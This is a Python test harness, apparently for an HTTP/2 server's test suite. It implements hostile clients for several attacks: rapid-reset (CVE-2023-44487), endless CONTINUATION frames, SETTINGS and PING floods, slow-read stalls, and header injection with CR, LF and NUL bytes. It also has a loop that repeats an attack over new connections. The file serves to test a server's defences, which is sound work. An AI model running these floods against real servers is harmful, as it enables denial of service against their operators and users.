#!/usr/bin/env python3
"""Hostile HTTP/2 clients for tests/edge_h2.rs, built on the `h2` library (hpack, hyperframe),
and one well-behaved one that looks at how the server compresses its response headers.

Usage: hostile.py HOST PORT CA_PEM SCENARIO [options]

Every scenario connects with TLS (ALPN h2, certificate checked against CA_PEM), does its thing
within a bounded number of frames and seconds, and prints ONE JSON line describing what the
server did: per-stream statuses/resets, the GOAWAY error code if any, whether the connection was
closed, and how many frames were sent before that happened.

Scenarios:
  streams      --count M --path P     burst M GET streams before reading the server's SETTINGS
  headers      --sizes A,B,...        one GET per connection with a header list of each size
  rapid-reset  --streams N            HEADERS + RST_STREAM(CANCEL) in a loop (CVE-2023-44487);
               --hold-ms T --batch B  cancel each batch of B only after T ms (the streams were
                                      taken on and forwarded by then)
  continuation --frames N             HEADERS without END_HEADERS, then endless CONTINUATION
  settings     --frames N             SETTINGS frames, never reading the ACKs
  ping         --frames N             PING frames, never reading the ACKs
  stall        --hold S               ask for a large body, then stop reading until stdin
                                      closes (at most S seconds)
  inject       --spec JSON            one request per connection with header fields the h2
                                      library would refuse to send (CR, LF, NUL in values,
                                      connection-specific fields, upper case names, bad
                                      pseudo-headers): outbound validation is switched off
  sequential   --count N --path P     N GETs one after another on one connection: the size of
                                      each response's header block, and the fields the server
                                      sent as never-indexed literals (RFC 7541 6.2.3)
"""

import argparse
import json
import select
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame


def code_name(code):
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return str(code)


class Client:
    """One TLS + HTTP/2 connection; `rcvbuf`/`sndbuf` shrink the socket buffers (set before
    connect, so the advertised TCP window is small too) for scenarios that never read."""

    def __init__(self, args, rcvbuf=None, sndbuf=None):
        ctx = ssl.create_default_context(cafile=args.ca)
        ctx.set_alpn_protocols(["h2"])
        raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        if sndbuf:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, sndbuf)
        raw.settimeout(5)
        raw.connect((args.host, args.port))
        self.sock = ctx.wrap_socket(raw, server_hostname="localhost")
        if self.sock.selected_alpn_protocol() != "h2":
            raise SystemExit("server did not select h2")
        cfg = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.conn = h2.connection.H2Connection(config=cfg)
        self.conn.initiate_connection()
        self.inbuf = b""
        self.authority = f"localhost:{args.port}"
        self.goaway = None  # {"error": name, "last_stream_id": n, "debug": text}
        self.closed = False  # EOF or reset from the server
        self.local_error = None  # our h2 state machine refused something the server sent
        self.max_concurrent_streams = None
        self.status = {}  # stream id -> :status
        self.reset = {}  # stream id -> RST_STREAM error name
        self.ended = set()
        self.header_blocks = []  # payload length of every HEADERS frame received, in order
        self.never_indexed = []  # per response: names of its never-indexed fields
        self.flush()
        # Tells the test the attack starts now (interpreter start-up and TLS handshake are not
        # part of it); the result is the last line.
        print("connected", flush=True)

    def request_headers(self, path, extra=()):
        return [(":method", "GET"), (":scheme", "https"), (":authority", self.authority), (":path", path), *extra]

    def flush(self):
        data = self.conn.data_to_send()
        if data:
            self.send(data)

    def send(self, data):
        """Sends raw bytes; False when the server has closed the connection."""
        if self.closed:
            return False
        try:
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError):
            self.closed = True
            return False

    def pump(self, timeout):
        """Reads what arrives within `timeout` seconds (once) and updates the state."""
        if self.closed:
            return
        if not self.sock.pending():
            ready, _, _ = select.select([self.sock], [], [], timeout)
            if not ready:
                return
        try:
            data = self.sock.recv(65536)
        except (ConnectionResetError, ssl.SSLError, socket.timeout):
            self.closed = True
            return
        if not data:
            self.closed = True
            return
        # Frame by frame, so that what came before a frame our h2 refuses (say, a PING after
        # the server's GOAWAY) is still seen.
        self.inbuf += data
        events = []
        while len(self.inbuf) >= 9 and len(self.inbuf) >= 9 + int.from_bytes(self.inbuf[:3], "big"):
            n = 9 + int.from_bytes(self.inbuf[:3], "big")
            frame, self.inbuf = self.inbuf[:n], self.inbuf[n:]
            if frame[3] == 0x1:
                self.header_blocks.append(n - 9)
            if self.local_error:
                continue
            try:
                events += self.conn.receive_data(frame)
            except h2.exceptions.ProtocolError as e:
                self.local_error = type(e).__name__
        for ev in events:
            if isinstance(ev, h2.events.RemoteSettingsChanged):
                setting = ev.changed_settings.get(h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
                if setting is not None:
                    self.max_concurrent_streams = setting.new_value
            elif isinstance(ev, h2.events.ResponseReceived):
                self.status[ev.stream_id] = int(dict(ev.headers)[":status"])
                self.never_indexed.append(sorted(h[0] for h in ev.headers if isinstance(h, hpack.NeverIndexedHeaderTuple)))
            elif isinstance(ev, h2.events.DataReceived):
                self.conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, h2.events.StreamEnded):
                self.ended.add(ev.stream_id)
            elif isinstance(ev, h2.events.StreamReset):
                self.reset[ev.stream_id] = code_name(ev.error_code)
            elif isinstance(ev, h2.events.ConnectionTerminated):
                self.goaway = {
                    "error": code_name(ev.error_code),
                    "last_stream_id": ev.last_stream_id,
                    "debug": (ev.additional_data or b"").decode("utf-8", "replace"),
                }
        self.flush()

    def pump_until(self, done, seconds):
        deadline = time.monotonic() + seconds
        while not done() and not self.closed and time.monotonic() < deadline:
            self.pump(min(0.05, max(0.0, deadline - time.monotonic())))

    def wait_closed(self, seconds):
        """Reads (and drops) until EOF; returns how long the close took, None if it did not."""
        start = time.monotonic()
        self.pump_until(lambda: False, seconds)
        return round((time.monotonic() - start) * 1000) if self.closed else None

    def result(self, **extra):
        out = {
            "goaway": self.goaway,
            "closed": self.closed,
            "local_error": self.local_error,
            "max_concurrent_streams": self.max_concurrent_streams,
            "status": {str(k): v for k, v in sorted(self.status.items())},
            "reset": {str(k): v for k, v in sorted(self.reset.items())},
        }
        out.update(extra)
        return out


def streams(args):
    """Opens --count streams in one burst, before the server's SETTINGS has been read (so our
    own h2 state machine does not hold them back), and waits for every one to finish."""
    c = Client(args)
    ids = []
    for _ in range(args.count):
        sid = c.conn.get_next_available_stream_id()
        c.conn.send_headers(sid, c.request_headers(args.path), end_stream=True)
        ids.append(sid)
    c.flush()
    c.pump_until(lambda: all(i in c.ended or i in c.reset for i in ids), args.seconds)
    return c.result(ids=ids)


def sequential(args):
    """--count GETs on one connection, each sent once the one before it has ended."""
    c = Client(args)
    for _ in range(args.count):
        sid = c.conn.get_next_available_stream_id()
        c.conn.send_headers(sid, c.request_headers(args.path), end_stream=True)
        c.flush()
        c.pump_until(lambda: sid in c.ended or sid in c.reset, args.seconds)
        if sid not in c.ended:
            break
    return c.result(header_blocks=c.header_blocks, never_indexed=c.never_indexed)


def header_list_size(headers):
    # RFC 9113 6.5.2: name length + value length + 32 per field.
    return sum(len(n) + len(v) + 32 for n, v in headers)


def headers(args):
    """One connection per size; a request whose header list is exactly that size."""
    results = []
    for size in (int(s) for s in args.sizes.split(",")):
        c = Client(args)
        base = c.request_headers("/hdr")
        pad = size - header_list_size(base) - header_list_size([("x-pad", "")])
        hdrs = base + [("x-pad", "a" * pad)]
        c.conn.send_headers(1, hdrs, end_stream=True)
        c.flush()
        c.pump_until(lambda: 1 in c.ended or 1 in c.reset or c.goaway is not None, args.seconds)
        # Is the connection still usable afterwards? A plain GET on the next stream.
        if c.goaway is None and not c.closed:
            c.conn.send_headers(3, c.request_headers("/after"), end_stream=True)
            c.flush()
            c.pump_until(lambda: 3 in c.ended or 3 in c.reset or c.goaway is not None, args.seconds)
        closed_after = c.wait_closed(args.seconds) if c.goaway is not None else None
        results.append(c.result(size=header_list_size(hdrs), closed_after_ms=closed_after))
        c.sock.close()
    return {"results": results}


def rapid_reset(args):
    """HEADERS then RST_STREAM(CANCEL) for stream after stream, in batches, reading whatever
    the server says between batches; stops at GOAWAY, close, or --streams."""
    c = Client(args)
    c.pump_until(lambda: c.max_concurrent_streams is not None, 2)
    sent = 0
    start = time.monotonic()
    while sent < args.streams and c.goaway is None and not c.closed and c.local_error is None:
        batch = []
        try:
            for _ in range(min(args.batch, args.streams - sent)):
                sid = c.conn.get_next_available_stream_id()
                c.conn.send_headers(sid, c.request_headers(args.path), end_stream=True)
                batch.append(sid)
                if not args.hold_ms:
                    c.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                sent += 1
        except h2.exceptions.ProtocolError as e:  # our side saw GOAWAY mid-batch
            c.local_error = type(e).__name__
        if args.hold_ms:  # let the server take them on (and forward them), then cancel them
            c.flush()
            c.pump_until(lambda: False, args.hold_ms / 1000)
            for sid in batch:
                if sid not in c.ended and sid not in c.reset:
                    try:
                        c.conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                    except h2.exceptions.ProtocolError:  # after a GOAWAY our h2 sends nothing
                        c.send(RstStreamFrame(sid, error_code=h2.errors.ErrorCodes.CANCEL).serialize())
        c.flush()
        c.pump(args.pause_ms / 1000)  # a moment to read a GOAWAY before a close resets us
    elapsed = round((time.monotonic() - start) * 1000)
    closed_after = c.wait_closed(args.wait_close)
    return c.result(sent=sent, elapsed_ms=elapsed, closed_after_ms=closed_after)


def continuation(args):
    """A HEADERS frame without END_HEADERS, then CONTINUATION frames that never end the block.
    --payload 0 sends empty frames; otherwise each carries one literal header field of about
    that many bytes (valid HPACK, never indexed, so the decoder accepts every fragment)."""
    c = Client(args)
    c.pump_until(lambda: c.max_concurrent_streams is not None, 2)
    block = c.conn.encoder.encode(c.request_headers("/continuation"))
    first = HeadersFrame(1, data=block, flags=["END_STREAM"])
    c.send(first.serialize())
    if args.payload:
        value = b"c" * min(args.payload, 120)
        field = b"\x10" + bytes([4]) + b"x-cc" + bytes([len(value)]) + value  # never-indexed literal
        fragment = field * max(1, args.payload // len(field))
    else:
        fragment = b""
    sent = 0
    start = time.monotonic()
    while sent < args.frames and c.goaway is None and not c.closed:
        batch = b"".join(ContinuationFrame(1, data=fragment).serialize() for _ in range(min(args.batch, args.frames - sent)))
        if not c.send(batch):
            break
        sent += min(args.batch, args.frames - sent)
        c.pump(args.pause_ms / 1000)  # a moment to read the GOAWAY before the close resets us
    elapsed = round((time.monotonic() - start) * 1000)
    closed_after = c.wait_closed(args.wait_close)
    return c.result(sent=sent, elapsed_ms=elapsed, closed_after_ms=closed_after)


def control_flood(args, make_frame, ack_type):
    """Sends --frames control frames in batches without reading anything, then reads and counts
    the server's ACKs of that type (raw frame headers, no state machine: the flood was raw too).
    A server that answers each frame once and keeps no backlog shows `acks == sent`; one that
    gives up shows `closed` or a GOAWAY."""
    c = Client(args, rcvbuf=4096, sndbuf=4096)
    sent = 0
    start = time.monotonic()
    while sent < args.frames and not c.closed:
        n = min(args.batch, args.frames - sent)
        if not c.send(b"".join(make_frame(sent + i).serialize() for i in range(n))):
            break
        sent += n
    elapsed = round((time.monotonic() - start) * 1000)
    acks = 0
    buf = b""
    deadline = time.monotonic() + args.seconds
    while acks < sent and not c.closed and time.monotonic() < deadline:
        ready, _, _ = select.select([c.sock], [], [], 0.05) if not c.sock.pending() else ([c.sock], [], [])
        if not ready:
            continue
        try:
            data = c.sock.recv(65536)
        except (ConnectionResetError, ssl.SSLError, socket.timeout):
            data = b""
        if not data:
            c.closed = True
            break
        buf += data
        while len(buf) >= 9:
            length = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + length:
                break
            ftype, flags = buf[3], buf[4]
            if ftype == ack_type and flags & 0x1:
                acks += 1
            elif ftype == 0x7:  # GOAWAY
                code = int.from_bytes(buf[13:17], "big")
                c.goaway = {"error": code_name(code), "last_stream_id": int.from_bytes(buf[9:13], "big") & 0x7FFFFFFF, "debug": ""}
            buf = buf[9 + length :]
    return c.result(sent=sent, acks=acks, elapsed_ms=elapsed)


def settings_flood(args):
    # Our connection preface carried one SETTINGS too: its ACK is counted with the rest.
    res = control_flood(args, lambda i: SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + i % 2}), 0x4)
    res["acks"] -= 1
    return res


def ping_flood(args):
    return control_flood(args, lambda i: PingFrame(0, opaque_data=i.to_bytes(8, "big")), 0x6)


def stall(args):
    """Opens the flow-control windows wide, asks for a large body, then stops reading (tiny
    receive buffer: the server's writes soon block) until stdin is closed or --hold seconds
    pass, then reads what is left: a server that gave up on us ends with a reset or EOF
    instead of the rest of the body."""
    c = Client(args, rcvbuf=4096)
    c.conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 2**31 - 1})
    c.conn.increment_flow_control_window(2**31 - 1 - 65535)
    c.conn.send_headers(1, c.request_headers(args.path), end_stream=True)
    c.flush()
    select.select([sys.stdin], [], [], args.hold)  # until the caller closes our stdin
    received = 0
    deadline = time.monotonic() + args.seconds
    c.sock.settimeout(0.5)
    while time.monotonic() < deadline:
        try:
            data = c.sock.recv(65536)
        except (ConnectionResetError, ssl.SSLError):
            c.closed = True
            break
        except socket.timeout:
            continue
        if not data:
            c.closed = True
            break
        received += len(data)
    return c.result(received_after_hold=received)


def inject(args):
    """--spec is a JSON list of cases {"name", "pseudo": {":path": ...}, "headers": [[n, v], ...]}.
    Names and values are sent as given (latin-1 bytes: JSON "\\u0000" is a NUL byte) with the h2
    library's outbound validation and normalisation off, each case on a connection of its own
    (a malformed field may cost the whole connection). Reports per case what the server did."""
    results = {}
    for case in json.loads(args.spec):
        c = Client(args)
        c.conn.config.validate_outbound_headers = False
        c.conn.config.normalize_outbound_headers = False
        pseudo = dict(c.request_headers(case.get("path", "/inject")))
        pseudo.update(case.get("pseudo", {}))
        fields = [(k.encode("latin-1"), v.encode("latin-1")) for k, v in pseudo.items()]
        fields += [(n.encode("latin-1"), v.encode("latin-1")) for n, v in case.get("headers", [])]
        c.conn.send_headers(1, fields, end_stream=True)
        c.flush()
        c.pump_until(lambda: 1 in c.ended or 1 in c.reset or c.goaway is not None or c.local_error, args.seconds)
        results[case["name"]] = c.result()
        c.sock.close()
    return {"cases": results}


DURATION_HELP = "repeat the attack on new connections for this many seconds; the last round is reported"


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("ca")
    sub = p.add_subparsers(dest="scenario", required=True)
    s = sub.add_parser("streams")
    s.add_argument("--count", type=int, default=12)
    s.add_argument("--path", default="/")
    s.add_argument("--seconds", type=float, default=10)
    s.set_defaults(run=streams)
    s = sub.add_parser("headers")
    s.add_argument("--sizes", required=True)
    s.add_argument("--seconds", type=float, default=5)
    s.set_defaults(run=headers)
    s = sub.add_parser("rapid-reset")
    s.add_argument("--streams", type=int, default=5000)
    s.add_argument("--batch", type=int, default=100)
    s.add_argument("--pause-ms", type=float, default=20)
    s.add_argument("--path", default="/rapid-reset")
    s.add_argument("--hold-ms", type=float, default=0, help="reset each batch only after this long")
    s.add_argument("--wait-close", type=float, default=3)
    s.add_argument("--duration", type=float, default=0, help=DURATION_HELP)
    s.set_defaults(run=rapid_reset)
    s = sub.add_parser("continuation")
    s.add_argument("--frames", type=int, default=5000)
    s.add_argument("--payload", type=int, default=0)
    s.add_argument("--batch", type=int, default=5)
    s.add_argument("--pause-ms", type=float, default=20)
    s.add_argument("--wait-close", type=float, default=3)
    s.add_argument("--duration", type=float, default=0, help=DURATION_HELP)
    s.set_defaults(run=continuation)
    for name, fn in (("settings", settings_flood), ("ping", ping_flood)):
        s = sub.add_parser(name)
        s.add_argument("--frames", type=int, default=5000)
        s.add_argument("--batch", type=int, default=100)
        s.add_argument("--seconds", type=float, default=5)
        s.add_argument("--duration", type=float, default=0, help=DURATION_HELP)
        s.set_defaults(run=fn)
    s = sub.add_parser("stall")
    s.add_argument("--path", default="/big")
    s.add_argument("--hold", type=float, default=20)
    s.add_argument("--seconds", type=float, default=3)
    s.set_defaults(run=stall)
    s = sub.add_parser("sequential")
    s.add_argument("--count", type=int, default=100)
    s.add_argument("--path", default="/")
    s.add_argument("--seconds", type=float, default=5)
    s.set_defaults(run=sequential)
    s = sub.add_parser("inject")
    s.add_argument("--spec", required=True)
    s.add_argument("--seconds", type=float, default=3)
    s.set_defaults(run=inject)
    args = p.parse_args()
    # A sustained attack: an attacker whose connection is closed connects again and repeats.
    end = time.monotonic() + getattr(args, "duration", 0)
    rounds = 0
    while True:
        res = args.run(args)
        rounds += 1
        if time.monotonic() >= end:
            break
    res["rounds"] = rounds
    print(json.dumps(res), flush=True)


if __name__ == "__main__":
    sys.exit(main())
